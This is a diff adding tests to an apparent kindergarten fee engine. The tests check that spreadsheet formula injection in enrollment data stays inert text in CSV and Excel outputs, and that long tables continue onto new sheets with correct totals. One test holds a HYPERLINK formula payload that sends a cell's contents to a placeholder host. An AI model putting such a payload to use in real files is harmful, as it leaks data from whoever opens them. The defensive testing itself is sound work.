@@ -250,3 +250,65 @@ def test_csv_dialects_bytes(tmp_path):
     assert b'"cr\rinne",7\n' in raw  # a lone carriage return is quoted in the maskin dialect too
     back = pd.read_csv(tmp_path / "m.csv", dtype={"tekst": str})
     assert back["tekst"].tolist() == df["tekst"].tolist()  # raw values: nothing added
+
+
+def test_formula_in_the_input_stays_text_in_the_workbook_and_csv(tmp_path):
+    """«=HYPERLINK(…)» typed into the enrollment file must never become a live formula."""
+    from pathlib import Path
+
+    demo = Path(__file__).resolve().parent.parent / "fixtures" / "demo"
+    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Klikk")'
+    lines = (demo / "innskriving.csv").read_text(encoding="utf-8").splitlines()[:16]
+    rows = [lines[0] + ";merknad"] + [line.replace("Solsikken barnehage", "+Solsikken") + ';"' + evil.replace('"', '""')
+                                      + '"' for line in lines[1:]]
+    src = tmp_path / "inn.csv"
+    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    for dialect in ("excel", "maskin"):
+        out = tmp_path / dialect
+        res = runner.invoke(app, ["run", str(src), "--source", "files", "--tax-data", str(demo / "skatt"), "--period",
+                                  "2024-08..2025-07", "--out", str(out), "--csv-dialect", dialect])
+        assert res.exit_code == 0, res.output
+        sep, enc = (";", "utf-8-sig") if dialect == "excel" else (",", "utf-8")
+        m = pd.read_csv(out / "maanedlig.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
+        v = pd.read_csv(out / "vedtak.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
+        f = pd.read_csv(out / "fakturagrunnlag.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
+        prefix = "'" if dialect == "excel" else ""
+        assert set(m["merknad"]) == {prefix + evil} and set(v["merknad"]) == {prefix + evil}
+        assert prefix + "+Solsikken" in set(m["institusjon"]) and prefix + "+Solsikken" in set(f["institusjon"])
+        assert not m["belop"].str.startswith("'").any()  # numbers are never prefixed
+    wb = load_workbook(tmp_path / "excel" / "vedtak.xlsx")
+    for name in ("Vedtak", "Månedlig"):
+        ws = wb[name]
+        header = [c.value for c in ws[1]]
+        cell = ws.cell(row=2, column=header.index("merknad") + 1)
+        assert cell.value == evil and cell.data_type == "s"  # text, not a formula
+    import re
+
+    formulas = re.findall(r"<f>([^<]*)</f>", zipfile_text(tmp_path / "excel" / "vedtak.xlsx"))
+    assert formulas and all(f.startswith("SUBTOTAL(") for f in formulas)  # only the total lines are formulas
+
+
+def zipfile_text(path):
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_a_table_longer_than_a_sheet_continues_on_the_next(tmp_path, monkeypatch):
+    from fee_engine.output import excel
+
+    monkeypatch.setattr(excel, "EXCEL_MAX_ROWS", 10)  # 1 header + 7 rows + blank + total per sheet
+    df = pd.DataFrame({"barn_id": [f"B{i}" for i in range(20)], "maaned": ["2024-10"] * 20, "belop": range(20)})
+    book = excel.Book(tmp_path / "t.xlsx")
+    names = excel.write_table(book, "Månedlig", df, total=excel.sum_totals(df))
+    book.close()
+    assert names == ["Månedlig", "Månedlig (2)", "Månedlig (3)"]
+    wb = load_workbook(tmp_path / "t.xlsx", data_only=True)
+    frames = [sheet_frame(wb[n]) for n in names]
+    assert [len(f) for f in frames] == [7, 7, 6]
+    assert pd.concat(frames)["barn_id"].tolist() == df["barn_id"].tolist()
+    for n, f in zip(names, frames):
+        last = list(wb[n].iter_rows(values_only=True))[-1]
+        assert last[0] == "Sum" and last[2] == f["belop"].sum()  # each sheet totals its own rows
+        assert wb[n].max_row <= 10
